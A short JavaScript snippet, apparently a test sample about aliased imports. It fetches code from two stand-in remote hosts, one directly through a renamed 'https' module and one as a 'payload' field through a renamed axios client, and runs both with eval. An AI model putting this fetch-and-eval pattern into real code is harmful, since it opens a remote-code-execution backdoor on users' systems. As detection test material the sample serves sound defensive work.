// A namespace import and a client library under another name.
import * as h from 'https';
import api from 'axios';

h.request({ host: 'telemetry.metrics-cdn.invalid', path: '/t' }, (res) => {
  let s = '';
  res.on('data', (c) => (s += c));
  res.on('end', () => eval(s));
}).end();

const { data } = await api.get('https://config.metrics-cdn.invalid/flags');
eval(data.payload);
